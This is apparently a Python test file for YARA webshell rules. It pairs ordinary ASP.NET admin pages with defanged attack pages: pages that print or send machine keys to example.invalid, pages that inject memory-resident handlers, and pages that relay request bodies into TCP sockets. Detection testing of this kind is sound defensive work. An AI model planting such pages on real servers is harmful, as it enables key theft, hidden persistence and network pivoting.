"""Rules from the twentieth unseen collection (issue 14, helper X20): harmless reproductions.

All twelve pages of the collection (2023-2026 shapes: a machine-key dump page from a deserialization
cheat sheet, a SharePoint ToolShell PoC's dropped page, upload PoCs' pages, suo5's newest .NET tunnel,
AntSword's C# template pages, a web.config handing ``*.jpg`` to the page compiler) were found on first
sight, so no rule was written for a miss. Checking the machine-key rule against ordinary pages that read
the keys showed a false positive instead: a configuration health page that only compares both key
properties with ``"AutoGenerate"`` and writes a status sentence was called machine-key theft. The rule
now needs one read of the keys that is neither a comparison nor an assignment (or the reflective getter).
Pages that hand the keys over - printed, sent out, or used as an oracle - stay found.

The collection's two memory-shell injectors (a 2026 write-up's VirtualPathProvider and HttpModule-step
pages) were found, but only as "runs a process"; ``EXT_WEBSHELL_Memory_Shell_Injector`` names the shape
(a page hooking a handler into the running pipeline - the shell outlives the file). The pages below hook
handlers that only echo a fixed word.

The collection's newest suo5 .NET page (2025 rewrite) was found by the behaviour analysis only and missed
by signature-base; no YARA rule knew tunnels. ``EXT_WEBSHELL_Socket_Tunnel_Page`` matches the relay shape
(request body into a TCP socket, the socket's bytes into the response). Written for these tests, with
placeholder names and example.invalid; never run.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

KEY_RULE = "EXT_WEBSHELL_MachineKey_Theft"

# Pages that compare a key first and still hand the keys over: found.
KEY_HANDED_OVER: list[Page] = [
    (
        "cs-checks-one-key-then-prints-both",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '    var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");\n'
        '    if (mk.ValidationKey.StartsWith("AutoGenerate")) return;\n'
        '    Response.Write(mk.ValidationKey + "|" + mk.DecryptionKey);\n}\n</script>',
    ),
    (
        "vb-compares-then-sends-out",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '    Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
        "MachineKeySection)\n"
        '    If k.DecryptionKey <> "" Then\n'
        "        Dim w As New System.Net.WebClient()\n"
        '        w.UploadString("http://example.invalid/k", k.ValidationKey & ";" & k.DecryptionKey)\n'
        "    End If\nEnd Sub\n</script>",
    ),
    (
        "reflective-getter-key-oracle",
        ".aspx",
        '<script runat="server" language="c#">\nvoid Page_Load() {\n'
        '    var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");\n'
        '    var g = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | '
        "System.Reflection.BindingFlags.NonPublic);\n"
        "    var c = (System.Web.Configuration.MachineKeySection)g.Invoke(null, null);\n"
        '    Response.Write(c.ValidationKey.StartsWith(Request["p"]) ? "1" : "0");\n}\n</script>',
    ),
]

# Configuration pages that read both keys only to compare them, or set new ones: not theft.
KEY_ORDINARY: list[Page] = [
    (
        "cs-health-page-both-keys-autogenerate",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n'
        '    var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");\n'
        '    bool auto = mk.ValidationKey.StartsWith("AutoGenerate") || mk.DecryptionKey.StartsWith("AutoGenerate");\n'
        '    Response.Write(auto ? "Keys are generated per server: set fixed keys before adding a second server."\n'
        '                        : "Fixed machine keys are configured.");\n}\n</script>',
    ),
    (
        "vb-health-page-equals-compare",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '    Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
        "MachineKeySection)\n"
        '    If k.ValidationKey = "AutoGenerate,IsolateApps" OrElse k.DecryptionKey = "AutoGenerate,IsolateApps" Then\n'
        '        Response.Write("This farm still uses generated keys.")\n    End If\nEnd Sub\n</script>',
    ),
    (
        "cs-key-rotation-setup-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nstring NewKey(int n) { var b = new byte[n];\n'
        "    System.Security.Cryptography.RandomNumberGenerator.Create().GetBytes(b);\n"
        '    return BitConverter.ToString(b).Replace("-", ""); }\n'
        "void Rotate_Click(object s, EventArgs e) {\n"
        '    var cfg = WebConfigurationManager.OpenWebConfiguration("~");\n'
        '    var mk = (MachineKeySection)cfg.GetSection("system.web/machineKey");\n'
        "    mk.ValidationKey = NewKey(64);\n    mk.DecryptionKey = NewKey(32);\n    cfg.Save();\n"
        '    Response.Write("New machine keys written; restart the other servers of the farm.");\n}\n</script>',
    ),
]

MEMSHELL_RULE = "EXT_WEBSHELL_Memory_Shell_Injector"

_CS = '<%@ Page Language="C#" %>\n'

MEMSHELL_INJECTORS: list[Page] = [
    (
        "cs-vpp-defined-and-registered",
        ".aspx",
        _CS + '<script runat="server">\n'
        "public class P : System.Web.Hosting.VirtualPathProvider {\n"
        "  public override string GetCacheKey(string v) {\n"
        '    var c = HttpContext.Current; if (c.Request.Form["k"] != null) { c.Response.Write("ok"); c.Response.End(); }\n'
        "    return Previous.GetCacheKey(v); } }\n</script>\n"
        "<% System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P()); %>",
    ),
    (
        "cs-step-added-to-pooled-applications",
        ".aspx",
        _CS + '<script runat="server">\n'
        "static System.Reflection.BindingFlags F = System.Reflection.BindingFlags.Instance | "
        "System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Static;\n"
        "void Hook(object s, EventArgs e) { var c = HttpContext.Current;\n"
        '  if (c.Request.QueryString["k"] != null) c.Response.Write("ok"); }\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  var web = typeof(HttpApplication).Assembly; var f = web.GetType("System.Web.HttpApplicationFactory");\n'
        '  var apps = f.GetField("_freeList", F).GetValue(f.GetField("_theApplicationFactory", F).GetValue(null));\n'
        '  var step = web.GetType("System.Web.HttpApplication+SyncEventExecutionStep");\n'
        "  foreach (HttpApplication a in (System.Collections.IEnumerable)apps) {\n"
        "    step.GetConstructor(F, null, new Type[] { typeof(HttpApplication), typeof(EventHandler) }, null)"
        ".Invoke(new object[] { a, (EventHandler)Hook }); } }\n</script>",
    ),
    (
        "cs-route-at-the-head",
        ".aspx",
        _CS + '<%@ Import Namespace="System.Web.Routing" %>\n<script runat="server">\n'
        "public class R : RouteBase {\n"
        "  public override RouteData GetRouteData(HttpContextBase h) {\n"
        '    if (h.Request.Headers["X-Example"] != null) { h.Response.Write("ok"); h.Response.End(); } return null; }\n'
        "  public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; } }\n"
        "</script>\n<% RouteTable.Routes.Insert(0, new R()); %>",
    ),
    (
        "cs-global-filter-defined-here",
        ".aspx",
        _CS + '<%@ Import Namespace="System.Web.Mvc" %>\n<script runat="server">\n'
        "public class G : IAuthorizationFilter {\n"
        "  public void OnAuthorization(AuthorizationContext a) {\n"
        '    if (a.HttpContext.Request.QueryString["k"] != null) a.HttpContext.Response.Write("ok"); } }\n'
        "</script>\n<% GlobalFilters.Filters.Add(new G(), -10); %>",
    ),
    (
        "ashx-http-listener-in-worker",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="L" %>\n'
        "public class L : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    if (c.Request.QueryString["start"] == null) return;\n'
        "    var l = new System.Net.HttpListener();\n"
        '    l.Prefixes.Add("http://+:8088/example/");\n    l.Start();\n'
        "    new System.Threading.Thread(() => { while (true) { var x = l.GetContext();\n"
        '      var b = System.Text.Encoding.UTF8.GetBytes("ok"); x.Response.OutputStream.Write(b, 0, b.Length);'
        " x.Response.Close(); } }).Start();\n  }\n}",
    ),
    (
        "cs-module-registered-at-run-time",
        ".aspx",
        _CS + '<script runat="server">\n'
        "public class M : IHttpModule { public void Dispose() { }\n"
        "  public void Init(HttpApplication a) { a.BeginRequest += (s, e) => {\n"
        '    if (a.Request.Form["k"] != null) a.Response.Write("ok"); }; } }\n'
        "</script>\n<% Microsoft.Web.Infrastructure.DynamicModuleHelper.DynamicModuleUtility.RegisterModule(typeof(M)); %>",
    ),
]

MEMSHELL_ORDINARY: list[Page] = [
    (
        "global-asax-registers-its-own",
        ".asax",
        '<%@ Application Language="C#" %>\n<%@ Import Namespace="System.Web.Routing" %>\n<script runat="server">\n'
        "public class Embedded : System.Web.Hosting.VirtualPathProvider { }\n"
        "public class Legacy : RouteBase {\n"
        "  public override RouteData GetRouteData(HttpContextBase h) { return null; }\n"
        "  public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; } }\n"
        "void Application_Start(object s, EventArgs e) {\n"
        "  System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Embedded());\n"
        "  RouteTable.Routes.Insert(0, new Legacy()); }\n"
        'void Application_BeginRequest(object s, EventArgs e) { if (Request.Path.EndsWith("/old")) Response.Redirect("/"); }\n'
        "</script>",
    ),
    (
        "admin-page-lists-routes-and-providers",
        ".aspx",
        _CS + '<%@ Import Namespace="System.Web.Routing" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  if (Request.QueryString["show"] == null) return;\n'
        '  foreach (RouteBase r in RouteTable.Routes) Response.Write(Server.HtmlEncode(r.GetType().FullName) + "<br>");\n'
        "  var p = System.Web.Hosting.HostingEnvironment.VirtualPathProvider;\n"
        "  Response.Write(Server.HtmlEncode(p.GetType().FullName)); }\n</script>",
    ),
    (
        "admin-page-adds-a-page-route",
        ".aspx",
        _CS + '<%@ Import Namespace="System.Web.Routing" %>\n<script runat="server">\n'
        "void Add_Click(object s, EventArgs e) {\n"
        '  string name = Request.Form["name"];\n'
        '  RouteTable.Routes.Add(name, new Route("reports/{id}", new PageRouteHandler("~/Report.aspx")));\n'
        '  Response.Write("Route added."); }\n</script>',
    ),
    (
        "route-config-code-file",
        ".cs",
        "using System.Web.Routing;\npublic class Legacy : RouteBase {\n"
        "  public override RouteData GetRouteData(System.Web.HttpContextBase h) {\n"
        '    return h.Request.Path == "/old" ? new RouteData() : null; }\n'
        "  public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; } }\n"
        "public static class RouteConfig { public static void Register(RouteCollection routes) {\n"
        "  routes.Insert(0, new Legacy()); } }",
    ),
]

TUNNEL_RULE = "EXT_WEBSHELL_Socket_Tunnel_Page"

TUNNELS: list[Page] = [
    (
        "cs-header-commands-socket-relay",
        ".aspx",
        _CS + '<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<%\n'
        'string op = Request.Headers["X-Op"];\n'
        'if (op == "open") { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n'
        '  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Headers["X-Host"]), int.Parse(Request.Headers["X-Port"])));\n'
        '  Session["s"] = s; }\n'
        'else if (op == "send") { var s = (Socket)Session["s"]; byte[] b = new byte[Request.ContentLength];\n'
        "  Request.InputStream.Read(b, 0, b.Length); s.Send(b); }\n"
        'else if (op == "recv") { var s = (Socket)Session["s"]; byte[] r = new byte[4096];\n'
        "  int n = s.Receive(r); Response.BinaryWrite(r); }\n%>",
    ),
    (
        "cs-tcpclient-stream-relay",
        ".aspx",
        _CS + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  var c = new System.Net.Sockets.TcpClient(); c.Connect(Request.QueryString["h"], 8080);\n'
        "  var ns = c.GetStream(); var body = Request.BinaryRead(Request.ContentLength);\n"
        "  ns.Write(body, 0, body.Length); var buf = new byte[8192]; int n = ns.Read(buf, 0, buf.Length);\n"
        "  Response.OutputStream.Write(buf, 0, n); }\n</script>",
    ),
    (
        "ashx-async-connect-relay",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="T" %>\nusing System.Net.Sockets;\n'
        "public class T : System.Web.IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        "    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        '    var r = s.BeginConnect(c.Request.Form["h"], 3389, null, null); r.AsyncWaitHandle.WaitOne(3000, true);\n'
        "    var inp = c.Request.GetBufferlessInputStream(); var b = new byte[16384]; int n = inp.Read(b, 0, b.Length);\n"
        "    s.Send(b, 0, n, SocketFlags.None); n = s.Receive(b);\n"
        "    c.Response.OutputStream.Write(b, 0, n); }\n}",
    ),
]

TUNNEL_ORDINARY: list[Page] = [
    (
        "port-check-admin-page",
        ".aspx",
        _CS + '<script runat="server">\nvoid Check_Click(object s, EventArgs e) {\n'
        "  var k = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, "
        "System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n"
        '  try { k.Connect(Request.Form["host"], 443); Response.Write("open"); } catch { Response.Write("closed"); }\n'
        "  finally { k.Close(); } }\n</script>",
    ),
    (
        "label-printer-feed",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Label" %>\n'
        "public class Label : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    using (var p = new System.Net.Sockets.TcpClient("printer01.example.invalid", 9100)) {\n'
        "      var ns = p.GetStream(); var b = new byte[c.Request.ContentLength];\n"
        "      c.Request.InputStream.Read(b, 0, b.Length); ns.Write(b, 0, b.Length); }\n"
        '    c.Response.Write("printed"); }\n}',
    ),
    (
        "smtp-test-page",
        ".aspx",
        _CS + '<script runat="server">\nvoid Test_Click(object s, EventArgs e) {\n'
        '  using (var c = new System.Net.Sockets.TcpClient("mail.example.invalid", 25)) {\n'
        "    var ns = c.GetStream(); var b = new byte[512]; int n = ns.Read(b, 0, b.Length);\n"
        '    var hi = System.Text.Encoding.ASCII.GetBytes("QUIT\\r\\n"); ns.Write(hi, 0, hi.Length);\n'
        "    Result.Text = Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b, 0, n)); } }\n</script>",
    ),
    (
        "upload-echo-no-socket",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Echo" %>\n'
        "public class Echo : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        "    var b = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(b, 0, b.Length);\n"
        '    c.Response.ContentType = "application/octet-stream"; c.Response.BinaryWrite(b); }\n}',
    ),
]

CASES: list[RuleCase] = [
    (KEY_RULE, KEY_HANDED_OVER, KEY_ORDINARY),
    (MEMSHELL_RULE, MEMSHELL_INJECTORS, MEMSHELL_ORDINARY),
    (TUNNEL_RULE, TUNNELS, TUNNEL_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
